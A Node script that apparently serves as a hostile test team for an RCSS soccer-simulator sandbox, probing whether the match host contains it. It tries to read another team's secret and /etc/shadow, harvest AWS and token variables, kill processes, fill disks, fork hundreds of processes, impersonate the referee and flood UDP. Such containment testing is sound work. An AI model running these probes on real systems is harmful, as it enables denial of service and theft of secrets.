/**
 * A team that attacks the machine and the match, and plays meanwhile. Arguments: HOST PORT OLCOACH_PORT TEAM. Prints one line of JSON with
 * what it reached. ATTACK, a JSON object in the environment, has `secret` (path of a file of the other team), `pid` (a process of the
 * machine), `tcp` (a port of the machine).
 */
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect as connectTcp } from 'node:net';

const [host, port, , team] = process.argv.slice(2);
const { secret, pid, tcp } = JSON.parse(process.env['ATTACK']);

/** Returns what a call returns, or the code of its error. */
function attempt(call) {
  try {
    return call();
  } catch (error) {
    return error.code ?? error.message;
  }
}

/** Writes until an error; returns its code. */
function fill(path) {
  const megabyte = Buffer.alloc(1 << 20);
  return attempt(() => {
    for (let i = 0; i < 300; i++) writeFileSync(path, megabyte, { flag: 'a' });
    return '300 MB';
  });
}

function connectPlayer() {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    socket.on('message', (bytes, from) => {
      const text = bytes.toString('latin1');
      if (text.startsWith('(init ')) resolve();
      if (text.startsWith('(think)')) socket.send('(done)\0', from.port, host);
    });
    socket.send(`(init ${team} (version 19))\0`, Number(port), host);
  });
}

/** Acts as the referee; resolves when the server has refused it. */
function command() {
  return new Promise((resolve) => {
    const monitor = createSocket('udp4');
    let isSent = false;
    monitor.on('message', (bytes, from) => {
      if (!isSent) monitor.send('(dispdiscard -1 3)\0', from.port, host);
      isSent = true;
      if (bytes.toString('latin1').includes('not_allowed')) resolve();
    });
    monitor.send('(dispinit version 4)\0', Number(port), host);
  });
}

/** A process that leaves its group without an environment. */
function leaveChild() {
  const code = `setInterval(() => {}, 1000) // rcss-hostile-child-${pid}-`;
  spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', env: {} }).unref();
}

/** Sends as many datagrams as it can for a while. */
async function flood() {
  const socket = createSocket('udp4');
  for (let i = 0; i < 200; i++) {
    for (let n = 0; n < 100; n++) socket.send(Buffer.alloc(4000, 65), Number(port), host, () => {});
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** Most processes that the attack starts: a limit that fails does not stop the machine. */
const MAX_FORKS = 400;

/** Starts processes until an error; returns its code. */
async function fork() {
  for (let i = 0; i < MAX_FORKS; i++) {
    const code = await new Promise((resolve) => {
      const child = spawn('/bin/sleep', ['600'], { stdio: 'ignore' });
      child.once('spawn', () => resolve(null));
      child.once('error', (error) => resolve(error.code));
    });
    if (code !== null) return code;
  }
  return `${MAX_FORKS} processes`;
}

function reachTcp() {
  return new Promise((resolve) => {
    const socket = connectTcp(tcp, '127.0.0.1');
    socket.once('connect', () => resolve('connected'));
    socket.once('error', ({ code }) => resolve(code));
  });
}

for (let i = 0; i < 11; i++) await connectPlayer();
await command();
leaveChild();
const reached = {
  secret: attempt(() => readFileSync(secret, 'utf8')),
  shadow: attempt(() => readFileSync('/etc/shadow', 'utf8').length),
  variables: Object.keys(process.env).filter((name) => /AWS|QUEUE|TOKEN/.test(name)),
  kill: attempt(() => process.kill(pid, 'SIGKILL')),
  processes: attempt(() => readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length),
  own: attempt(() => writeFileSync('changed', 'x')),
  root: attempt(() => writeFileSync('/changed', 'x')),
  device: attempt(() => writeFileSync('/dev/changed', 'x')),
  work: attempt(() => writeFileSync(`${process.env.HOME}/state`, 'x')),
  disk: fill('/tmp/full'),
  memoryDisk: fill('/dev/shm/full'),
  tcp: await reachTcp(),
  forks: await fork(),
};
console.log(JSON.stringify(reached));
await flood();
